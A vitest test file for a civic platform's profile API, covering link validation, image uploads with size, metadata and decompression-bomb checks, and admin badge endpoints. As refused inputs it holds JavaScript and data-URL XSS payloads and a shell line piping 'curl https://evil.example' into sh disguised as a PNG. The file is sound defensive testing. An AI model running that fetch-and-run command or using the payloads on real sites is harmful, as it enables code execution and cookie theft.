import {
  BADGE_ALREADY_HELD,
  BADGE_NOT_HELD,
  PROFILE_IMAGE_MAX_BYTES,
  PROFILE_IMAGE_MISSING,
  PROFILE_IMAGE_NOT_AN_IMAGE,
  PROFILE_IMAGE_TOO_LARGE,
  PROFILE_IMAGE_TOO_MANY_PIXELS,
  PROFILE_IMAGE_URL_NOT_OWN,
  UNKNOWN_BADGE,
  linkMessage,
} from '@civitas/events';
import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TestClient } from '../../../test-support/http-client';
import { pacedUpload } from '../../../test-support/paced-upload';
import { startTestServer, type TestServer } from '../../../test-support/test-server';
import { newMember, verify, type Member } from '../participation/members';
import { metadataOf, pngBomb, pngOfSize, pngWithGps, smallImage } from './image-fixtures';
import { PROFILE_TEST_ENV, newAdmin, uploadImage } from './profile-clients';

const PROFILE = {
  firstName: 'Amina',
  lastName: 'Haddad',
  aboutMe: 'Teacher in Riyadh.\nI care about libraries.',
  city: 'Riyadh',
  websiteUrl: 'https://amina.example/about',
  twitterUrl: 'https://twitter.com/amina',
  linkedinUrl: 'https://www.linkedin.com/in/amina',
  githubUrl: 'http://github.com/amina',
};

describe('profiles: PUT /api/user/profile, POST /api/user/profile-image, GET /api/images, badges (issue 14)', () => {
  let server: TestServer;
  let amina: Member;
  let admin: Member;
  beforeAll(async () => {
    server = await startTestServer({ env: PROFILE_TEST_ENV });
    [amina, admin] = await Promise.all([newMember(server, 'Amina'), newAdmin(server)]);
  });
  afterAll(async () => server?.close());

  const save = (member: Member | TestClient, body: Record<string, unknown>) =>
    ('browser' in member ? member.browser : member).json('PUT', '/api/user/profile', body);
  const me = async (member: Member) => (await member.browser.json('GET', '/api/auth/user')).body;
  const imageRows = async (userId: string) => server.query<{ hash: string }>('select hash from profile_images where user_id = $1', [userId]);
  const eventsOf = async (userId: string, type: string) =>
    server.query<{ data: Record<string, unknown> }>('select data from events where stream_id = $1 and type = $2 order by global_position', [
      `user-${userId}`,
      type,
    ]);

  describe('PUT /api/user/profile', () => {
    it('saves every field, answers them with the position, and GET /api/auth/user shows them', async () => {
      const answer = await save(amina, { ...PROFILE, firstName: '  Amina ', city: ' Riyadh ' });
      expect(answer).toEqual({ status: 200, body: { position: expect.any(String), profile: { ...PROFILE, profileImageUrl: null } } });
      expect(await me(amina)).toMatchObject(PROFILE);
    });

    it('keeps every text sealed in the event: no name, city or link in clear', async () => {
      const [event] = (await eventsOf(amina.userId, 'ProfileUpdated')).slice(-1);
      const stored = JSON.stringify(event!.data);
      for (const value of Object.values(PROFILE)) expect(stored).not.toContain(value.split('\n')[0]);
      expect(
        Object.entries(event!.data)
          .filter(([key]) => key !== 'userId')
          .every(([, value]) => value === null || String(value).startsWith('v1.')),
      ).toBe(true);
    });

    it('keeps a field left out, clears a field sent empty or null', async () => {
      const answer = await save(amina, { firstName: 'Amina', lastName: 'Haddad', city: '', githubUrl: null, aboutMe: '   ' });
      expect(answer.status).toBe(200);
      expect(answer.body.profile).toEqual({ ...PROFILE, city: null, githubUrl: null, aboutMe: null, profileImageUrl: null });
      expect(await me(amina)).toMatchObject({ city: null, githubUrl: null, aboutMe: null, websiteUrl: PROFILE.websiteUrl, twitterUrl: PROFILE.twitterUrl });
    });

    it('refuses blank or missing names', async () => {
      expect(await save(amina, { ...PROFILE, firstName: '   ' })).toEqual({ status: 400, body: { message: 'First name is required' } });
      expect(await save(amina, { ...PROFILE, lastName: undefined })).toEqual({ status: 400, body: { message: 'Last name is required' } });
    });

    it('refuses links that are not absolute http(s) addresses, javascript: above all', async () => {
      const refused = [
        'javascript:alert(document.cookie)',
        'JAVASCRIPT:alert(1)',
        'data:text/html,<script>alert(1)</script>',
        'ftp://example.org',
        'example.org',
        '//evil.example',
        'https://',
        'https://exa mple.org',
      ];
      for (const websiteUrl of refused)
        expect(await save(amina, { ...PROFILE, websiteUrl })).toEqual({ status: 400, body: { message: linkMessage('Website') } });
      expect(await save(amina, { ...PROFILE, twitterUrl: 'javascript:alert(1)' })).toEqual({ status: 400, body: { message: linkMessage('Twitter') } });
      expect((await me(amina)).websiteUrl).toBe(PROFILE.websiteUrl);
    });

    it('refuses values over the limits and characters a field may not hold', async () => {
      expect(await save(amina, { ...PROFILE, firstName: 'x'.repeat(101) })).toEqual({
        status: 400,
        body: { message: 'First name must be at most 100 characters' },
      });
      expect(await save(amina, { ...PROFILE, city: 'x'.repeat(101) })).toEqual({ status: 400, body: { message: 'City must be at most 100 characters' } });
      expect(await save(amina, { ...PROFILE, aboutMe: 'x'.repeat(1001) })).toEqual({
        status: 400,
        body: { message: 'About me must be at most 1000 characters' },
      });
      expect(await save(amina, { ...PROFILE, websiteUrl: `https://example.org/${'x'.repeat(2048)}` })).toEqual({
        status: 400,
        body: { message: 'Website must be at most 2048 characters' },
      });
      expect(await save(amina, { ...PROFILE, city: 'Riyadh\u202E' })).toEqual({
        status: 400,
        body: { message: 'City contains characters that are not allowed' },
      });
      expect(await save(amina, { ...PROFILE, aboutMe: 'x'.repeat(1000) })).toMatchObject({ status: 200 });
    });

    it('never takes an arbitrary picture address', async () => {
      for (const profileImageUrl of ['https://tracker.example/pixel.png', `/api/images/${'f'.repeat(64)}.jpg`, 'javascript:alert(1)']) {
        expect(await save(amina, { ...PROFILE, profileImageUrl })).toEqual({ status: 400, body: { message: PROFILE_IMAGE_URL_NOT_OWN } });
      }
    });

    it('requires a signed-in member', async () => {
      expect((await save(new TestClient(server.baseUrl), PROFILE)).status).toBe(401);
    });
  });

  describe('POST /api/user/profile-image and GET /api/images/<hash>.jpg', () => {
    it('stores a PNG with EXIF GPS as a JPEG of at most 400 px with no metadata, served with long caching', async () => {
      const uploaded = await uploadImage(amina.browser, await pngWithGps(1600, 1200));
      expect(uploaded.status).toBe(200);
      const url = uploaded.body.profileImageUrl!;
      expect(url).toMatch(/^\/api\/images\/[0-9a-f]{64}\.jpg$/);
      expect(uploaded.body.position).toEqual(expect.any(String));

      const served = await fetch(`${server.baseUrl}${url}`);
      expect(served.status).toBe(200);
      expect(served.headers.get('content-type')).toBe('image/jpeg');
      expect(served.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
      expect(served.headers.get('x-content-type-options')).toBe('nosniff');
      const stored = Buffer.from(await served.arrayBuffer());
      expect(await metadataOf(stored)).toMatchObject({
        format: 'jpeg',
        width: 400,
        height: 300,
        exif: undefined,
        icc: undefined,
        xmp: undefined,
        iptc: undefined,
      });
      // The same bytes in the table, and only the hash and URL in the event.
      const [row] = await server.query<{ bytes: Buffer }>('select bytes from profile_images where user_id = $1', [amina.userId]);
      expect(row!.bytes.equals(stored)).toBe(true);
      const [event] = (await eventsOf(amina.userId, 'ProfileImageChanged')).slice(-1);
      expect(event!.data).toEqual({ userId: amina.userId, imageHash: url.slice('/api/images/'.length, -4), profileImageUrl: url });
      expect((await me(amina)).profileImageUrl).toBe(url);
    });

    it('takes exactly 2 MB and refuses 2 MB + 1 byte with 413, storing nothing', async () => {
      const member = await newMember(server, 'Sized');
      expect((await uploadImage(member.browser, await pngOfSize(PROFILE_IMAGE_MAX_BYTES))).status).toBe(200);
      const before = { rows: await imageRows(member.userId), events: await eventsOf(member.userId, 'ProfileImageChanged') };
      const refused = await uploadImage(member.browser, await pngOfSize(PROFILE_IMAGE_MAX_BYTES + 1));
      expect(refused).toMatchObject({ status: 413, body: { message: PROFILE_IMAGE_TOO_LARGE } });
      expect(await imageRows(member.userId)).toEqual(before.rows);
      expect(await eventsOf(member.userId, 'ProfileImageChanged')).toEqual(before.events);
    });

    it('holds the 2 MB limit on a repeat upload too, whatever follows the image: zeros, other bytes, a second image (issue 38)', async () => {
      const member = await newMember(server, 'Repeat');
      const png = await smallImage('png');
      const first = await uploadImage(member.browser, png);
      expect(first.status).toBe(200);
      const before = { rows: await imageRows(member.userId), events: await eventsOf(member.userId, 'ProfileImageChanged') };
      // The same picture with more than 2 MB after its end: decoders ignore the tail, the limit does not.
      // (No carriage return in the noise: busboy would hold one back at the pause, looking for a boundary.)
      const noise = randomBytes(PROFILE_IMAGE_MAX_BYTES).map((byte) => (byte === 0x0d ? 0x0e : byte));
      const tails = [Buffer.alloc(PROFILE_IMAGE_MAX_BYTES), noise, Buffer.concat([await pngOfSize(PROFILE_IMAGE_MAX_BYTES - png.length), png])];
      for (const tail of tails) {
        const upload = Buffer.concat([png, tail]);
        expect(await uploadImage(member.browser, upload)).toMatchObject({ status: 413, body: { message: PROFILE_IMAGE_TOO_LARGE } });
        // Paced so that a chunk ends exactly at 2 MB: the bytes past the limit arrive in a chunk of their own.
        expect(
          await pacedUpload(
            member.browser,
            '/api/user/profile-image',
            { file: { field: 'profileImage', name: 'me.png', type: 'image/png', bytes: upload } },
            PROFILE_IMAGE_MAX_BYTES,
          ),
        ).toEqual({ status: 413, body: { message: PROFILE_IMAGE_TOO_LARGE } });
      }
      expect(await imageRows(member.userId)).toEqual(before.rows);
      expect(await eventsOf(member.userId, 'ProfileImageChanged')).toEqual(before.events);
    });

    it('judges the file by its content: a script named .png is refused, storing nothing', async () => {
      const member = await newMember(server, 'Script');
      const refused = await uploadImage(member.browser, Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'), {
        filename: 'avatar.png',
        type: 'image/png',
      });
      expect(refused).toMatchObject({ status: 400, body: { message: PROFILE_IMAGE_NOT_AN_IMAGE } });
      expect(await imageRows(member.userId)).toEqual([]);
      expect(await eventsOf(member.userId, 'ProfileImageChanged')).toEqual([]);
      // GIF and WebP are images too.
      for (const format of ['gif', 'webp'] as const)
        expect((await uploadImage(member.browser, await smallImage(format), { filename: `x.${format}`, type: `image/${format}` })).status).toBe(200);
    });

    it('refuses a decompression bomb with a clear 400', async () => {
      expect(await uploadImage(amina.browser, pngBomb())).toMatchObject({ status: 400, body: { message: PROFILE_IMAGE_TOO_MANY_PIXELS } });
    });

    it('refuses a request without the profileImage file, or sent as JSON', async () => {
      expect(await uploadImage(amina.browser, await smallImage('png'), { field: 'avatar' })).toMatchObject({
        status: 400,
        body: { message: PROFILE_IMAGE_MISSING },
      });
      expect(await amina.browser.json('POST', '/api/user/profile-image', { profileImage: 'https://example.org/a.png' })).toEqual({
        status: 400,
        body: { message: PROFILE_IMAGE_MISSING },
      });
    });

    it('requires a signed-in member', async () => {
      expect((await uploadImage(new TestClient(server.baseUrl), await smallImage('png'))).status).toBe(401);
    });

    it('keeps only the current picture: a replaced or removed one is gone', async () => {
      const member = await newMember(server, 'Changer');
      const first = (await uploadImage(member.browser, await smallImage('png', 50, 50))).body.profileImageUrl!;
      const second = (await uploadImage(member.browser, await smallImage('png', 60, 40))).body.profileImageUrl!;
      expect((await fetch(`${server.baseUrl}${first}`)).status).toBe(404);
      expect((await fetch(`${server.baseUrl}${second}`)).status).toBe(200);
      // Saving the profile with the current picture keeps it; sending it empty removes it.
      expect((await save(member, { firstName: 'Changer', lastName: 'Tester', profileImageUrl: second })).body.profile.profileImageUrl).toBe(second);
      expect((await save(member, { firstName: 'Changer', lastName: 'Tester', profileImageUrl: '' })).body.profile.profileImageUrl).toBeNull();
      expect((await fetch(`${server.baseUrl}${second}`)).status).toBe(404);
      expect(await imageRows(member.userId)).toEqual([]);
      expect((await me(member)).profileImageUrl).toBeNull();
    });

    it('answers 404 for a name that is no picture', async () => {
      for (const file of ['nothing.jpg', `${'a'.repeat(64)}.png`, `${'A'.repeat(64)}.jpg`, `${'a'.repeat(64)}.jpg`]) {
        const answer = await fetch(`${server.baseUrl}/api/images/${file}`);
        expect(answer.status).toBe(404);
        expect(await answer.json()).toEqual({ message: 'Image not found' });
      }
    });
  });

  describe('founder badge (admins only)', () => {
    const grant = (who: Member | TestClient, userId: string, body: Record<string, unknown> = { badge: 'founder', reason: 'Built the first version' }) =>
      ('browser' in who ? who.browser : who).json('POST', `/api/admin/users/${userId}/badges`, body);
    const revoke = (who: Member | TestClient, userId: string, badge = 'founder') =>
      ('browser' in who ? who.browser : who).json('DELETE', `/api/admin/users/${userId}/badges/${badge}`, { reason: 'Moved on' });
    const badgesOf = async (member: Member) =>
      (await member.browser.json('GET', '/api/user/profile')).body.badges.map((badge: { label: string }) => badge.label);

    it('refuses members (403) and visitors (401), storing nothing', async () => {
      expect(await grant(amina, amina.userId)).toEqual({ status: 403, body: { message: 'Admin access required' } });
      expect(await revoke(amina, amina.userId)).toEqual({ status: 403, body: { message: 'Admin access required' } });
      expect((await grant(new TestClient(server.baseUrl), amina.userId)).status).toBe(401);
      expect((await revoke(new TestClient(server.baseUrl), amina.userId)).status).toBe(401);
      expect(await eventsOf(amina.userId, 'BadgeGranted')).toEqual([]);
    });

    it('lets an admin grant the founder badge once, shown on the member\u2019s profile, and revoke it', async () => {
      const granted = await grant(admin, amina.userId);
      expect(granted).toEqual({ status: 201, body: { position: expect.any(String), userId: amina.userId, badge: 'founder', held: true } });
      expect((await eventsOf(amina.userId, 'BadgeGranted'))[0]!.data).toEqual({
        userId: amina.userId,
        badge: 'founder',
        grantedBy: admin.userId,
        reason: 'Built the first version',
      });
      amina.browser.position = granted.body.position;
      expect(await badgesOf(amina)).toContain('Founder');
      expect(await grant(admin, amina.userId)).toEqual({ status: 409, body: { message: BADGE_ALREADY_HELD } });

      const revoked = await revoke(admin, amina.userId);
      expect(revoked).toEqual({ status: 200, body: { position: expect.any(String), userId: amina.userId, badge: 'founder', held: false } });
      amina.browser.position = revoked.body.position;
      expect(await badgesOf(amina)).not.toContain('Founder');
      expect(await revoke(admin, amina.userId)).toEqual({ status: 409, body: { message: BADGE_NOT_HELD } });
    });

    it('answers 404 for a member who does not exist and 400/404 for a badge that does not', async () => {
      for (const id of ['00000000-0000-4000-8000-000000000000', 'not-a-user'])
        expect(await grant(admin, id)).toEqual({ status: 404, body: { message: 'User not found' } });
      expect(await grant(admin, amina.userId, { badge: 'emperor' })).toEqual({ status: 400, body: { message: UNKNOWN_BADGE } });
      expect(await revoke(admin, amina.userId, 'emperor')).toEqual({ status: 404, body: { message: UNKNOWN_BADGE } });
    });
  });

  describe('GET /api/user/profile', () => {
    it('shows the member\u2019s own verified country and national id, with the Verified badge', async () => {
      const member = await newMember(server, 'Verified');
      const verified = await verify(member, 'Saudi Arabia', '1234567890');
      expect(verified.status).toBe(200);
      member.browser.position = verified.body.position;
      const profile = (await member.browser.json('GET', '/api/user/profile')).body;
      expect(profile.verification).toEqual({ country: 'Saudi Arabia', nationalId: '\u2022\u2022\u2022\u2022 7890' });
      expect(profile.badges).toEqual([{ id: 'verified', label: 'Verified' }]);
      expect(profile.user).toMatchObject({ id: member.userId, email: member.email, firstName: 'Verified' });
      expect(
        profile.achievements.map((achievement: { id: string; unlocked: boolean; value: number }) => [achievement.id, achievement.unlocked, achievement.value]),
      ).toEqual([
        ['active_participant', false, 0],
        ['topic_creator', false, 0],
        ['trusted_delegate', false, 0],
        ['election_winner', false, 0],
      ]);
      expect((await new TestClient(server.baseUrl).json('GET', '/api/user/profile')).status).toBe(401);
    });
  });
});
